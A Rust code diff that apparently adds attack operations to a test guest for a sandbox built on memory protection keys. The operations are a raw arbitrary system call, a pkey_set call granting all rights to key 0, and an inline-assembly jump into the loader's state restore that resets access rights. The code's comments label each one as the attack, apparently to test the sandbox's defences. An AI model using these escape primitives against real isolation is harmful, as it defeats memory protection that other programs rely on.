@@ -24,6 +24,15 @@ pub(crate) const LARGE: u32 = 8;
 /// Returns the address of its outbox.
 pub(crate) const OUTBOX: u32 = 9;
 
+/// Makes the system call whose number and six arguments the event holds; an argument of [`TEXT`] is the address of the bytes that
+/// follow them. Returns what the kernel does.
+pub(crate) const SYSTEM_CALL: u32 = 10;
+pub(crate) const TEXT: u64 = u64::MAX - 1;
+/// Calls its libc's `pkey_set`, to have all of key 0.
+pub(crate) const SET_RIGHTS: u32 = 11;
+/// Jumps to the address with every state component asked for.
+pub(crate) const JUMP: u32 = 12;
+
 type Start = extern "C" fn(*mut c_void) -> *mut c_void;
 type Create = unsafe extern "C" fn(*mut libc::pthread_t, *const c_void, Start, *mut c_void) -> c_int;
 type Join = unsafe extern "C" fn(libc::pthread_t, *mut *mut c_void) -> c_int;
@@ -32,6 +41,7 @@ pub(crate) struct Native {
     malloc: unsafe extern "C" fn(usize) -> *mut u8,
     create: Create,
     join: Join,
+    set_rights: unsafe extern "C" fn(c_int, u32) -> c_int,
 }
 
 impl Native {
@@ -49,6 +59,9 @@ impl Native {
                 )),
                 create: std::mem::transmute::<usize, Create>(symbol(c"pthread_create")),
                 join: std::mem::transmute::<usize, Join>(symbol(c"pthread_join")),
+                set_rights: std::mem::transmute::<usize, unsafe extern "C" fn(c_int, u32) -> c_int>(symbol(
+                    c"pkey_set",
+                )),
             }
         }
     }
@@ -64,6 +77,40 @@ impl Native {
             // SAFETY: each was created above.
             unsafe { (self.join)(*thread, std::ptr::null_mut()) };
         }
+    }
+}
+
+/// `numbers` is the call's number, its six arguments, and text.
+fn system_call(event: &[u8]) -> u64 {
+    let (numbers, text) = event.split_at(56);
+    let word = |at: usize| {
+        let bytes = numbers[8 * at..].first_chunk().map_or(0, |bytes| u64::from_le_bytes(*bytes));
+        if bytes == TEXT { text.as_ptr() as u64 } else { bytes }
+    };
+    let result: u64;
+    // SAFETY: none; this is the attack. (Not libc's `syscall`, whose errno is another namespace's.)
+    unsafe {
+        std::arch::asm!(
+            "syscall",
+            inout("rax") word(0) => result,
+            in("rdi") word(1), in("rsi") word(2), in("rdx") word(3),
+            in("r10") word(4), in("r8") word(5), in("r9") word(6),
+            out("rcx") _, out("r11") _,
+        );
+    }
+    result
+}
+
+/// Enters the loader's restore of `[rsp + 0x40]`, with all of the area zero: the rights it stands for are those to everything.
+fn jump(address: u64) {
+    let area = [0u8; 8192];
+    let stack = (area.as_ptr() as u64 + 128).next_multiple_of(64) - 64;
+    // SAFETY: none; this is the attack.
+    unsafe {
+        std::arch::asm!(
+            "mov rsp, rsi", "xor edx, edx", "jmp rdi",
+            in("rsi") stack, in("rdi") address, in("eax") 0x200, options(noreturn),
+        )
     }
 }
 
@@ -115,6 +162,13 @@ impl Guest for Native {
             }
             READ_ON_THREAD => {
                 self.on_threads(1, read_byte, argument as *mut c_void);
+                0
+            }
+            SYSTEM_CALL => system_call(call.event),
+            // SAFETY: none; this is the attack.
+            SET_RIGHTS => unsafe { (self.set_rights)(0, 0) as u64 },
+            JUMP => {
+                jump(argument);
                 0
             }
             ECHO | LARGE => {
